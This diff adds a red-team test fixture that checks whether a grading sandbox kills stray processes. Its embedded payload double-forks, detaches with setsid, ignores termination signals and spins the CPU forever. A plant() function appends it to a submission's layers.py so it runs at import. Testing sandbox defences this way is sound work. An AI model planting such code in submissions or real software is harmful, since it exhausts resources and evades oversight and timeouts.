@@ -1,0 +1,42 @@
+"""Red-team fixture: processes that outlive their sandbox and the grader (issue 11, attack 13).
+
+At import the code double-forks a process that leaves the session (``setsid``), ignores
+SIGTERM, SIGINT and SIGHUP, and spins at full CPU forever. Defence: each sandbox is a PID
+namespace and a cgroup that are killed at the end of every step, at a timeout, when the
+grader dies (``PR_SET_PDEATHSIG``) and when it is stopped with SIGTERM or SIGINT.
+"""
+
+import pathlib
+
+ATTACK = "13: sandbox processes that outlive the grading (setsid, signals ignored)"
+
+CODE = r'''
+
+def _redteam_outlive():
+    import os, signal
+    if os.environ.get("REDTEAM_SPINNER"):
+        return
+    os.environ["REDTEAM_SPINNER"] = "1"
+    if os.fork() == 0:
+        try:
+            os.setsid()
+            if os.fork() == 0:
+                for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
+                    signal.signal(s, signal.SIG_IGN)
+                while True:
+                    pass
+        finally:
+            os._exit(0)
+
+
+try:
+    _redteam_outlive()
+except Exception:
+    pass
+'''
+
+
+def plant(tree: pathlib.Path) -> None:
+    """Append the attack to the submission's assignment/layers.py (runs at import)."""
+    layers = tree / "assignment" / "layers.py"
+    layers.write_text(layers.read_text() + CODE)
